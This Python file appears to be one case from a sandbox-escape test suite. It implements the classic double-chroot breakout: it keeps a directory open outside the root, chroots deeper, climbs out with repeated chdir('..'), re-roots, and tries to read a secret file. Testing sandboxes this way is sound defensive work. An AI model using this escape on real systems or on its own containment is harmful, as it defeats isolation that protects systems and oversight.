"""Leave the root by changing to a deeper one while an open directory stays outside it.

origin: the double chroot, simes.co.uk 1999
why: a root is only as good as what may change it
control: needs root
"""


def attack(target):
    outside, _ = openat(target, "/", os.O_RDONLY | os.O_DIRECTORY)
    syscall(target, "mkdirat", AT_FDCWD, b"jail", 0o700)
    result, error = syscall(target, "chroot", b"jail")
    if result < 0:
        result, error = syscall(target, "chroot", b".")
    if result < 0:
        return blocked("chroot", error)
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    syscall(target, "chroot", b".")
    fd, error = openat(target, target["secret"], os.O_RDONLY)
    return escaped("outside of the root") if fd >= 0 else escaped("chroot was permitted")
